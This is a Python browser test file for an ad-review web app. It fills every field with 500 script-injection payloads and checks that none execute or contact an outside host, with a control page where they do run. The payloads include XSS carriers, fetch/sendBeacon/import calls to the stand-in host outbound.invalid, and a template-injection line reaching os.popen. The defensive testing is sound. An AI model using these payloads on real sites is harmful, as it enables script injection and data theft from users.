"""Five hundred script payloads in every field that an ad or a person can fill: nothing runs, nothing is asked outside.

The browser ignores the content security policy here: escaping has to hold by itself. `test_hostile_input.py` looks
at the markup; this at what a browser makes of it.
"""

from datetime import timedelta
from itertools import product

import pytest

from labeling import index, sampling
from zorya.domain import ids
from zorya.domain.ads import Contact, ContactKind, Place
from zorya.domain.reviews import Role, Task, TaskReason, Verdict, VerdictLabel
from zorya.store import campaign_changes, campaigns, postings, reviews

CARRIERS = (
    "<script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    '" onmouseover={} autofocus onfocus={} x="',
    "<svg onload={}>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}" id=x>x</a>',
    '<object data="javascript:{}"></object>',
    "<math><mtext><form><mglyph><style></math><img src onerror={}>",
    "<style>@import '//outbound.invalid/s?{}';</style>",
    "<img src=//outbound.invalid/x?{}>",
    "<link rel=stylesheet href=//outbound.invalid/c?{}>",
    "<base href=//outbound.invalid/?{}>",
    '{{{{ cycler.__init__.__globals__.os.popen("{}") }}}}',
)
ACTS = (
    "hit()",
    "window.hit()",
    "top.hit()",
    "self['hit']()",
    "eval('hit()')",
    "setTimeout(hit)",
    "setTimeout(`hit()`)",
    "alert(1)",
    "Function('hit()')()",
    "[].constructor.constructor('hit()')()",
    "&#104;it()",
    "\\u0068it()",
    "hit&lpar;&rpar;",
    "hit`1`",
    "fetch('//outbound.invalid/f')",
    "new(Image)().src='//outbound.invalid/i'",
    "import('//outbound.invalid/m')",
    "navigator.sendBeacon('//outbound.invalid/b')",
    "document.write('<img/src=//outbound.invalid/w>')",
    "document.body.append(hit())",
)
PAYLOADS = [carrier.replace("{}", act) for carrier, act in product(CARRIERS, ACTS)]
EVERYTHING = "\n".join(PAYLOADS)
LISTEN = "window.hits = 0; window.hit = () => { window.hits += 1; return ''; };"
FOREIGN = """() => [...document.querySelectorAll('*')].filter((one) =>
    [...one.attributes].some((a) => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value) || /outbound/.test(
        ['src', 'href', 'action', 'data'].includes(a.name) ? a.value : ''))
    || (one.matches('script') && !one.src.includes('/static/'))
    || one.matches('iframe, object, embed, base, style')).length"""


def test_there_are_five_hundred_different_payloads():
    assert len(set(PAYLOADS)) == 500


@pytest.fixture
def poisoned(town):
    """A campaign of two ads, with every payload in each of its fields, judged and merged in the same words."""
    places = (Place(EVERYTHING, EVERYTHING, "nl", "destination"),)
    contact = Contact(ContactKind.TELEGRAM, f"value {EVERYTHING}", f"raw {EVERYTHING}")
    fields = {"title": EVERYTHING, "body": EVERYTHING, "employer": EVERYTHING, "places": places}
    fields |= {"contacts": (contact,), "words": "<script>hit()|onerror=hit()"}
    homes = [town.ad(0.999, **fields, native_id=f"{name}{EVERYTHING}") for name in ("one", "two")]
    with town.store.writing() as connection:
        pair = (homes[0], homes[1])
        live = campaign_changes.merge(connection, pair, at=town.at, by="anna", reason=EVERYTHING).campaign_id
        posting = campaigns.members(connection, live)[0].posting_id
        version = postings.current(connection, posting)
        at = town.at - timedelta(days=1)
        postings.record(connection, version.posting, capture_id=None, seen_at=at)
        task = Task(ids.task_id(live, 1), live, 1, TaskReason.RISK, 1.0, at)
        reviews.add_task(connection, task)
        for analyst in ("lena", EVERYTHING):
            name = ids.verdict_id(task.id, analyst, at)
            told = {"rationale": EVERYTHING, "severity": 2, "indicators": (EVERYTHING,)}
            reviews.add_verdict(connection, Verdict(name, task.id, live, analyst, VerdictLabel.CONCERN, at, **told))
    sampling.run(town.store, town.settings, as_of=town.at)
    index.run(town.store, town.settings, as_of=town.at)
    town.person("lena", Role.LEAD)
    with town.store.reading() as connection:
        tasks = reviews.tasks_of_campaign(connection, live)
    return town, live, posting, tasks[0].id


def test_nothing_runs_and_nothing_is_asked_outside(poisoned, serve, browser):
    town, campaign, posting, task = poisoned
    address = serve(town)
    context = browser.new_context(bypass_csp=True, java_script_enabled=True)
    context.add_init_script(LISTEN)
    page, outside, dialogs = context.new_page(), [], []
    page.on("request", lambda request: None if request.url.startswith(address) else outside.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{address}/login")
    page.fill("[name=name]", "lena")
    page.fill("[name=password]", "a long invented password")
    with page.expect_navigation():
        page.click("main button.primary")
    pages = [f"/ads/{posting}{tab}" for tab in ("", "/evidence", "/history", "/similar")]
    pages += [f"/campaigns/{campaign}?ad={posting}", f"/tasks/{task}", "/search?q=script", "/search?verdict=concern"]
    pages += ["/insights", "/queue", "/", "/audit", "/proposals"]
    shown = 0
    for path in pages:
        page.goto(f"{address}{path}")
        assert page.evaluate("window.hits") == 0, path
        assert page.evaluate(FOREIGN) == 0, path
        shown += "<script>hit()</script>" in page.inner_text("body")
    assert shown >= 5
    for payload in PAYLOADS[:: 3 * len(CARRIERS) + 1]:
        page.goto(f"{address}/search")
        page.fill("[name=q]", payload[:200])
        with page.expect_navigation():
            page.click("form[role=search] button.primary")
        assert page.evaluate("window.hits") == 0, payload
        assert page.evaluate(FOREIGN) == 0, payload
    context.close()
    assert (outside, dialogs) == ([], [])


def test_control_the_same_payloads_do_run_where_nobody_escapes_them(browser):
    page, asked = browser.new_page(), []
    page.add_init_script(LISTEN)
    page.on("dialog", lambda dialog: dialog.dismiss())
    bare = "<body>" + "\n".join(PAYLOADS[:14] + PAYLOADS[160:170] + PAYLOADS[420:422])

    def answer(route):
        asked.append(route.request.url)
        if route.request.is_navigation_request():
            route.fulfill(body=bare, content_type="text/html")
        else:
            route.abort()

    page.route("**/*", answer)
    page.goto("http://plain.invalid/")
    assert page.evaluate("window.hits") > 0
    assert page.evaluate(FOREIGN) > 0
    assert any("outbound.invalid" in url for url in asked)
    page.close()
